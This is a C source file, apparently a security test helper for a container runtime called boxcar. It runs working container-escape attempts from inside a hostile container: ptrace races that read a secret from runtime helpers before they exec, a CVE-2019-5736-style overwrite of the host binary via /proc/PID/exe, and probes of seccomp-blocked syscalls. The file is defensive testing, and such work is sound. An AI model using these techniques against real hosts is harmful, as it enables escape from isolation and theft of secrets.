/* racer.c - what a hostile container runs against boxcar in
 * tests/security.test. Static, no libcore: it goes into the test image
 * as it is, on every target.
 *
 *   racer ptrace STOPFILE SECRET
 *       Seize (PTRACE_SEIZE, PTRACE_O_TRACEEXEC) every new process of
 *       the container's PID namespace as soon as it may, until STOPFILE
 *       exists. A seized process that then reports an exec event was
 *       caught before its execve: an exec helper, still holding what
 *       boxcar holds. Its /proc/PID/environ is searched for SECRET.
 *       Prints "pre-exec N secret N".
 *   racer exe STOPFILE
 *       Open /proc/PID/exe of every new process as soon as it may and
 *       keep those that are not files of the container's root; at
 *       STOPFILE, try to append to each through /proc/self/fd/N
 *       (CVE-2019-5736). Touches /tmp/kept when it keeps one. Prints
 *       "wrote N".
 *   racer grab SOCKET
 *       Try to append to /proc/1/exe at once (prints "wrote directly"
 *       if that works), then open it and send it over the unix socket
 *       SOCKET (a message without it if it does not open).
 *   racer hold SOCKET GOFILE
 *       Receive fds on SOCKET; once GOFILE exists, try to append to
 *       each as "exe" does. Prints "wrote N".
 *   racer syscalls
 *       Call what the default seccomp filter refuses (Docker's profile)
 *       with arguments that change nothing even if let through: one
 *       line "NAME refused" or "NAME allowed (errno)" each.
 *   racer selftest SECRET
 *       Seize a child of our own, stop it before its execve, find
 *       SECRET (put in our environment by the test) in its
 *       /proc/PID/environ, and see the exec event: proves ptrace and
 *       both detections work in the container, so that "pre-exec 0
 *       secret 0" means something. Prints "pre-exec 1 secret 1".
 *
 * Every loop is bounded: by STOPFILE, and by a count of tries that a
 * loaded machine does not reach in the tests' few seconds.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef PTRACE_SEIZE
#define PTRACE_SEIZE 0x4206
#endif
#ifndef PTRACE_INTERRUPT
#define PTRACE_INTERRUPT 0x4207
#endif
#ifndef PTRACE_O_TRACEEXEC
#define PTRACE_O_TRACEEXEC 0x10
#endif
#ifndef PTRACE_EVENT_EXEC
#define PTRACE_EVENT_EXEC 4
#endif

#define MAX_TRIES 200000000L /* a safety net; STOPFILE ends the loop */
#define MAX_FDS 64
#define MARKER "BOXCAR-SECURITY-TEST-WAS-HERE\n"

static int lastpid_fd = -1;

/* The highest PID of a live process: where a kernel has no
 * ns_last_pid (CONFIG_CHECKPOINT_RESTORE), the nearest thing. */
static long highest_pid(void)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	long max = 1;

	while (d && (de = readdir(d)))
		if (atol(de->d_name) > max)
			max = atol(de->d_name);
	if (d)
		closedir(d);
	return max;
}

/* The last PID handed out in our PID namespace. */
static long last_pid(void)
{
	char buf[32];
	ssize_t n;

	if (lastpid_fd == -2)
		return highest_pid();
	if (lastpid_fd < 0 && (lastpid_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY)) < 0) {
		lastpid_fd = -2;
		return highest_pid();
	}
	n = pread(lastpid_fd, buf, sizeof(buf) - 1, 0);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	return atol(buf);
}

static int memmem_found(const char *hay, size_t n, const char *needle)
{
	size_t k = strlen(needle);

	for (size_t i = 0; k && i + k <= n; i++)
		if (!memcmp(hay + i, needle, k))
			return 1;
	return 0;
}

static int environ_has(pid_t pid, const char *secret)
{
	char path[64], buf[65536];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return 0;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n > 0 && memmem_found(buf, n, secret);
}

/* A seized pid: stop it, read its environment, let it run on and see
 * whether an exec event comes after it stopped for us (then we had it
 * before its execve). A seize that lands inside the execve, once the new
 * image is in place (the kernel makes the process dumpable there, before
 * it reports the exec), reports the exec event first: that process is
 * already the command, not boxcar, and does not count. */
static void watch(pid_t pid, const char *secret, int *preexec, int *leaked)
{
	int st, seen_exec = 0, stopped = 0;

	if (secret && environ_has(pid, secret))
		(*leaked)++;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	for (int i = 0; i < 1000; i++) {
		if (waitpid(pid, &st, __WALL) < 0)
			break;
		if (WIFEXITED(st) || WIFSIGNALED(st))
			break;
		if (!WIFSTOPPED(st))
			continue;
		if (st >> 8 == (SIGTRAP | (PTRACE_EVENT_EXEC << 8))) {
			seen_exec = stopped;
			ptrace(PTRACE_DETACH, pid, 0, 0);
			break;
		}
		stopped = 1;
		if (secret && !seen_exec && environ_has(pid, secret))
			(*leaked)++, secret = NULL;
		/* an event stop (ours) resumes without a signal */
		ptrace(PTRACE_CONT, pid, 0,
		       (st >> 16) ? 0 : (WSTOPSIG(st) == SIGTRAP ? 0 : WSTOPSIG(st)));
	}
	if (seen_exec) {
		(*preexec)++;
		fprintf(stderr, "racer: had pid %d before its execve\n", (int)pid);
	}
}

/* Walk the PID namespace's new pids: try(pid) returns 1 when done with
 * it, 0 to try again, -1 when it does not exist (yet). */
static void race(const char *stop, int (*try)(pid_t, void *), void *arg)
{
	pid_t target = last_pid() + 1;

	for (long i = 0; i < MAX_TRIES; i++) {
		int r;

		if ((i & 1023) == 0 && access(stop, F_OK) == 0)
			return;
		if (target == getpid()) /* not ourselves */
			target++;
		r = try(target, arg);
		if (r > 0)
			target++;
		else if ((i & 63) == 0 && last_pid() > target)
			target++; /* came and went, or never ours to have */
		else if (r < 0 && last_pid() >= target)
			target++;
	}
}

struct ptrace_arg {
	const char *secret;
	int seized, preexec, leaked;
};

static int try_ptrace(pid_t pid, void *v)
{
	struct ptrace_arg *a = v;

	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC) == 0) {
		a->seized++;
		watch(pid, a->secret, &a->preexec, &a->leaked);
		return 1;
	}
	if (errno == ESRCH)
		return -1;
	/* EPERM: there, not (yet) ours; we may read its environment only
	 * when we may trace it, but try all the same */
	if (environ_has(pid, a->secret)) {
		a->leaked++;
		return 1;
	}
	return 0;
}

struct exe_arg {
	dev_t rootdev;
	int fds[MAX_FDS], nfds;
};

static int try_exe(pid_t pid, void *v)
{
	struct exe_arg *a = v;
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return errno == ENOENT || errno == ESRCH ? -1 : 0;
	if (fstat(fd, &st) == 0 && st.st_dev != a->rootdev && a->nfds < MAX_FDS) {
		for (int i = 0; i < a->nfds; i++) {
			struct stat o;

			if (fstat(a->fds[i], &o) == 0 && o.st_ino == st.st_ino && o.st_dev == st.st_dev) {
				close(fd);
				return 0; /* had it; wait for its execve */
			}
		}
		a->fds[a->nfds++] = fd;
		close(open("/tmp/kept", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
		return 0;
	}
	close(fd);
	return 1; /* a file of the container's own: it has exec'd */
}

/* Append the marker to every fd's file, reopened for writing. */
static int write_through(const int *fds, int n)
{
	int wrote = 0;

	for (int i = 0; i < n; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
		if ((fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0) {
			fprintf(stderr, "racer: cannot open fd %d for writing: %s\n", fds[i],
				strerror(errno));
			continue;
		}
		if (write(fd, MARKER, strlen(MARKER)) == (ssize_t)strlen(MARKER)) {
			wrote++;
			fprintf(stderr, "racer: wrote through fd %d\n", fds[i]);
		} else
			fprintf(stderr, "racer: cannot write through fd %d: %s\n", fds[i],
				strerror(errno));
		close(fd);
	}
	return wrote;
}

static int unix_socket(const char *path, struct sockaddr_un *sa)
{
	memset(sa, 0, sizeof(*sa));
	sa->sun_family = AF_UNIX;
	if (strlen(path) >= sizeof(sa->sun_path))
		return -1;
	strcpy(sa->sun_path, path);
	return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

/* Whether or not /proc/1/exe opens, hold hears from us: it must not
 * wait for a grab that will never come. */
static int grab(const char *sock)
{
	char cbuf[CMSG_SPACE(sizeof(int))], byte = 'x';
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };
	struct sockaddr_un sa;
	struct cmsghdr *c;
	int fd = open("/proc/1/exe", O_WRONLY | O_APPEND | O_CLOEXEC), s;

	if (fd >= 0 && write(fd, MARKER, strlen(MARKER)) == (ssize_t)strlen(MARKER))
		printf("wrote directly\n");
	else
		fprintf(stderr, "racer: cannot write /proc/1/exe: %s\n", strerror(errno));
	if (fd >= 0)
		close(fd);
	fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
	s = unix_socket(sock, &sa);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("racer: connect");
		return 1;
	}
	if (fd >= 0) {
		m.msg_control = cbuf;
		m.msg_controllen = sizeof(cbuf);
		c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(c), &fd, sizeof(int));
	} else
		printf("cannot open /proc/1/exe: %s\n", strerror(errno));
	if (sendmsg(s, &m, 0) != 1) {
		perror("racer: sendmsg");
		return 1;
	}
	printf(fd >= 0 ? "sent\n" : "sent nothing\n");
	return 0;
}

/* poll() for up to 60 s in all: the test does what ends the wait. */
static int wait_file(const char *path)
{
	for (int i = 0; i < 6000; i++) {
		if (access(path, F_OK) == 0)
			return 0;
		poll(NULL, 0, 10);
	}
	return -1;
}

static int hold(const char *sock, const char *go)
{
	char cbuf[CMSG_SPACE(sizeof(int) * 4)], byte;
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf,
			    .msg_controllen = sizeof(cbuf) };
	struct sockaddr_un sa;
	struct pollfd p;
	struct cmsghdr *c;
	int s = unix_socket(sock, &sa), conn, fds[4], n = 0;

	unlink(sock);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 1) < 0) {
		perror("racer: bind");
		return 1;
	}
	p.fd = s;
	p.events = POLLIN;
	if (poll(&p, 1, 60000) != 1 || (conn = accept(s, NULL, NULL)) < 0) {
		printf("nobody came\n");
		return 1;
	}
	if (recvmsg(conn, &m, 0) == 1)
		for (c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c))
			if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS)
				for (size_t k = 0; k < (c->cmsg_len - CMSG_LEN(0)) / sizeof(int) && n < 4; k++)
					memcpy(&fds[n++], CMSG_DATA(c) + k * sizeof(int), sizeof(int));
	if (wait_file(go)) {
		printf("no go\n");
		return 1;
	}
	printf("wrote %d\n", write_through(fds, n));
	return 0;
}

static int selftest(const char *secret)
{
	int p[2], pre = 0, leaked, st;
	pid_t pid;
	char c = 0;

	if (pipe(p) < 0 || (pid = fork()) < 0)
		return 1;
	if (pid == 0) {
		/* the new program's environment has no SECRET: only the
		 * process before its execve shows it */
		char *argv[] = { "true", NULL }, *envp[] = { "RACER_SELFTEST=1", NULL };

		close(p[1]);
		(void)!read(p[0], &c, 1);
		execve("/bin/true", argv, envp);
		_exit(127);
	}
	close(p[0]);
	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC) < 0) {
		printf("cannot seize: %s\n", strerror(errno));
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		return 0;
	}
	/* stopped for us while it waits on the pipe: before its execve
	 * whatever the scheduler does, then let go to exec */
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st)) {
		printf("no stop\n");
		return 0;
	}
	leaked = environ_has(pid, secret);
	(void)!write(p[1], &c, 1);
	ptrace(PTRACE_CONT, pid, 0, 0);
	for (int i = 0; i < 1000 && waitpid(pid, &st, __WALL) == pid; i++) {
		if (WIFEXITED(st) || WIFSIGNALED(st))
			break;
		if (st >> 8 == (SIGTRAP | (PTRACE_EVENT_EXEC << 8))) {
			pre = 1;
			ptrace(PTRACE_DETACH, pid, 0, 0);
			break;
		}
		ptrace(PTRACE_CONT, pid, 0, (st >> 16) || WSTOPSIG(st) == SIGTRAP ? 0 : WSTOPSIG(st));
	}
	waitpid(pid, NULL, 0);
	printf("pre-exec %d secret %d\n", pre, leaked);
	return 0;
}

/* Each call, if the filter let it through, fails for its arguments or
 * does nothing lasting (a user namespace of our own, the id of a
 * keyring that exists): EPERM then is the filter's answer. */
static int syscalls(void)
{
	static const struct {
		const char *name;
		long nr, a[3];
	} calls[] = {
		{ "unshare(CLONE_NEWUSER)", SYS_unshare, { 0x10000000, 0, 0 } },
		{ "keyctl", SYS_keyctl, { 0 /* GET_KEYRING_ID */, -3 /* session */, 0 } },
		{ "add_key", SYS_add_key, { 0, 0, 0 } },
		{ "request_key", SYS_request_key, { 0, 0, 0 } },
		{ "io_uring_setup", SYS_io_uring_setup, { 0, 0, 0 } },
		{ "bpf", SYS_bpf, { -1, 0, 0 } },
		{ "perf_event_open", SYS_perf_event_open, { 0, 0, -1 } },
	};

	for (unsigned i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		long r = syscall(calls[i].nr, calls[i].a[0], calls[i].a[1], calls[i].a[2], 0, 0);

		if (r < 0 && errno == EPERM)
			printf("%s refused\n", calls[i].name);
		else
			printf("%s allowed (%s)\n", calls[i].name, r < 0 ? strerror(errno) : "0");
	}
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 4 && !strcmp(argv[1], "ptrace")) {
		struct ptrace_arg a = { .secret = argv[3] };

		race(argv[2], try_ptrace, &a);
		fprintf(stderr, "racer: seized %d\n", a.seized);
		printf("pre-exec %d secret %d\n", a.preexec, a.leaked);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "exe")) {
		struct exe_arg a = { .nfds = 0 };
		struct stat st;

		if (stat("/", &st) < 0)
			return 1;
		a.rootdev = st.st_dev;
		race(argv[2], try_exe, &a);
		fprintf(stderr, "racer: kept %d\n", a.nfds);
		printf("wrote %d\n", write_through(a.fds, a.nfds));
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "grab"))
		return grab(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "hold"))
		return hold(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "selftest"))
		return selftest(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "syscalls"))
		return syscalls();
	fprintf(stderr, "usage: racer ptrace STOPFILE SECRET | exe STOPFILE | grab SOCKET |"
		" hold SOCKET GOFILE | syscalls | selftest SECRET\n");
	return 100;
}
